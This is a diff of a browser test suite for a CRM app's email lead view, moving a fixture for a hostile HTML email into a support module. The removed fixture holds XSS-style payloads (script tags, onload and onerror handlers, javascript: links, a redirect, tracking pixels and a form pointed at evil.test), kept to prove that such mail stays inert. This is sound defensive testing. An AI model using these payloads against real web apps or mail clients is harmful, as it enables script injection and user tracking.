@@ -1,10 +1,10 @@
-import { randomUUID } from 'node:crypto';
 import { mkdtempSync, readFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { hasChromium, launchBrowser, signIn, startWebServer, type WebServer } from './support/browser.js';
+import { hostileMail, PDF, PNG } from './support/html-mail.js';
 import { freshEmail } from './support/ids.js';
 import { type FakeVk, fixtureJson, startFakeVk } from './support/messenger-fakes.js';
 import { backends } from './support/pg.js';
@@ -16,80 +16,10 @@ const SHOTS = process.env.SWITCHBOARD_SCREENSHOTS
   ? new URL('../docs/screenshots/', import.meta.url).pathname
   : `${mkdtempSync(path.join(tmpdir(), 'sb-shots-'))}/`;
 
-const PNG = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAIAAACQkWg2AAAAGElEQVR42mNkYPhfz0AEYBxVSF+FAP0HHgGxHbWTAAAAAElFTkSuQmCC',
-  'base64',
-);
-const PDF = Buffer.from('%PDF-1.4\n% Счёт на прилавок\n%%EOF\n');
 const TG_TOKEN = '700000001:AAthread-test-token';
 const TG_SECRET = 'tg-thread-secret';
 const VK_SECRET = 'vk-thread-secret';
 const VK_GROUP = 199493573;
-
-/** What a hostile sender puts in an HTML email: everything here must stay inert in the manager's browser. */
-const HOSTILE_HTML = `<html><head>
-<style>body{display:none}.x{background:url(https://track.evil.test/css.png)}</style>
-<script>parent.__pwned = 'script'; alert('script')</script>
-<meta http-equiv="refresh" content="0;url=https://evil.test/">
-</head><body onload="parent.__pwned='onload'">
-<p>Здравствуйте! Нужен <b>прилавок</b> 2 м, <i>срочно</i>.</p>
-<img src="https://track.evil.test/pixel.gif?u=42" width="1" height="1">
-<img src="x" onerror="parent.__pwned='onerror'">
-<p><img src="cid:logo@client-mail.ru" alt="Логотип"></p>
-<p><a href="javascript:parent.__pwned='link'">Нажмите сюда</a> · <a href="https://mebel-client.test/site">Наш сайт</a></p>
-<div id="overlay" style="position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:99">Оверлей</div>
-<form action="https://evil.test/"><input name="p"><button>Отправить форму</button></form>
-<iframe src="https://evil.test/frame"></iframe>
-<svg onload="parent.__pwned='svg'"><circle r="5"/></svg>
-</body></html>`;
-
-function hostileMail(from: string): string {
-  const b64 = (s: string | Buffer) => Buffer.from(s).toString('base64').replace(/.{76}/g, '$&\r\n');
-  const word = (s: string) => `=?UTF-8?B?${Buffer.from(s).toString('base64')}?=`;
-  return [
-    `From: ${word('Ева Хакерова')} <${from}>`,
-    'To: sales@mebel-fabrika.ru',
-    `Subject: ${word('Прилавок 2 м')}`,
-    'Date: Fri, 20 Nov 2026 09:00:00 +0000',
-    `Message-ID: <${randomUUID()}@client-mail.ru>`,
-    'MIME-Version: 1.0',
-    'Content-Type: multipart/mixed; boundary="mixed"',
-    '',
-    '--mixed',
-    'Content-Type: multipart/related; boundary="rel"',
-    '',
-    '--rel',
-    'Content-Type: multipart/alternative; boundary="alt"',
-    '',
-    '--alt',
-    'Content-Type: text/plain; charset=utf-8',
-    'Content-Transfer-Encoding: base64',
-    '',
-    b64('Здравствуйте! Нужен прилавок 2 м, срочно.'),
-    '--alt',
-    'Content-Type: text/html; charset=utf-8',
-    'Content-Transfer-Encoding: base64',
-    '',
-    b64(HOSTILE_HTML),
-    '--alt--',
-    '--rel',
-    'Content-Type: image/png',
-    'Content-Transfer-Encoding: base64',
-    'Content-ID: <logo@client-mail.ru>',
-    'Content-Disposition: inline; filename="logo.png"',
-    '',
-    b64(PNG),
-    '--rel--',
-    '--mixed',
-    `Content-Type: application/pdf; name="${word('Счёт.pdf')}"`,
-    'Content-Transfer-Encoding: base64',
-    `Content-Disposition: attachment; filename*=UTF-8''${encodeURIComponent('Счёт.pdf')}`,
-    '',
-    b64(PDF),
-    '--mixed--',
-    '',
-  ].join('\r\n');
-}
 
 // A real browser against the whole app (PostgreSQL; the pages' reads are the same on the embedded database).
 describe.runIf(backends().includes('postgres'))('the lead thread in Chromium', () => {
@@ -260,6 +190,13 @@ describe.runIf(backends().includes('postgres'))('the lead thread in Chromium', (
       `attachment; filename="____.pdf"; filename*=UTF-8''${encodeURIComponent('Счёт.pdf')}`,
     );
     expect(file.headers()['x-content-type-options']).toBe('nosniff');
+    // The frame fits its content (the page's script measures it; no script runs inside).
+    const fitted = await mail.locator('body').evaluate((b) => b.scrollHeight + 12);
+    await expect
+      .poll(() =>
+        frameEl.evaluate((f) => Math.round((f as unknown as { offsetHeight: number }).offsetHeight)),
+      )
+      .toBe(fitted);
     await page.screenshot({ path: `${SHOTS}lead-email-html.png`, fullPage: true });
 
     // Another team's manager gets neither the body nor the file.
@@ -347,6 +284,7 @@ describe.runIf(backends().includes('postgres'))('the lead thread in Chromium', (
     expect(trail).toContain('Новый лид');
     expect(trail).toContain('новый лид от нового клиента');
     expect(trail).not.toMatch(/matched|prospect|new lead for/);
+    await page.evaluate('window.scrollTo(0, 0)');
     await page.screenshot({ path: `${SHOTS}lead-media.png`, fullPage: true });
 
     await page.goto(`${server.url}/?q=${encodeURIComponent('Ирина')}`);
